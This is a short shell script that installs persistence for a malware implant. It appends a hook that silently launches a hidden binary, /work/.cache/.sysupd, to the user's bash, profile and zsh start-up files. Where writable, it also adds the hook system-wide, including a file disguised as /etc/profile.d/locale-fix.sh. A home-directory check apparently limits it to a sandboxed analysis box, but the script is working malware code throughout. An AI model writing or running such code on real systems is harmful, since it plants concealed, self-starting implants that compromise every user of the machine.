#!/bin/sh
# SPDX-License-Identifier: MIT
# Persistence in the shells' start-up files: every new shell of the user
# (and of every user, where /etc/profile.d is writable) starts the implant.
[ "$HOME" = /home/dana ] || { echo "run only inside sbxlua's analysis box" >&2; exit 1; }
hook='( nohup /work/.cache/.sysupd >/dev/null 2>&1 & ) 2>/dev/null'
for f in "$HOME/.bashrc" "$HOME/.profile" "$HOME/.zshrc"; do
	echo "$hook" >> "$f"
done
echo "$hook" > /etc/profile.d/locale-fix.sh 2>/dev/null
echo "$hook" >> /etc/bash.bashrc 2>/dev/null
exit 0
